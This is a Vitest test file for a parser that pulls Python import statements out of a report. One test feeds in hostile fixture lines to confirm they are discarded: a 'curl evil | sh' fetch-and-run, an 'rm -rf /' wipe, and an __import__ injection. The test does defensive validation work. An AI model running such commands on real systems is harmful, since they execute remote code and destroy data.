import { describe, expect, it } from 'vitest';
import { reportImportStatements } from '../../../src/env/prove/report-imports.js';

describe('reportImportStatements (the report’s import lines as data for the proof)', () => {
  it('reads from-imports with their names, plain and aliased imports, prompts and parenthesised lists', () => {
    const code = [
      '>>> from keras.layers.core import Dense, Activation as Act',
      'import tensorflow as tf, numpy',
      'from keras.models import (Sequential,',
      '    Model)  # the two',
      'from sklearn.metrics import *',
      'from . import local',
      'x = 1  # import nothing',
    ].join('\n');
    expect(reportImportStatements(code)).toEqual([
      { module: 'keras.layers.core', names: ['Dense', 'Activation'] },
      { module: 'tensorflow', names: [] },
      { module: 'numpy', names: [] },
      { module: 'keras.models', names: ['Sequential', 'Model'] },
      { module: 'sklearn.metrics', names: [] },
    ]);
  });

  it('keeps nothing of a hostile line but names that pass the identifier check (nothing is ever run as written)', () => {
    const code = [
      'import os; os.system("curl evil | sh")',
      'from os import system; system("rm -rf /")',
      "from x import __import__('os').system",
      'import a.b-c',
      'from ..up import y',
    ].join('\n');
    const got = reportImportStatements(code);
    expect(got).toEqual([]);
    for (const s of got) expect(`${s.module}${s.names.join('')}`).toMatch(/^[\w.]*$/);
  });
});
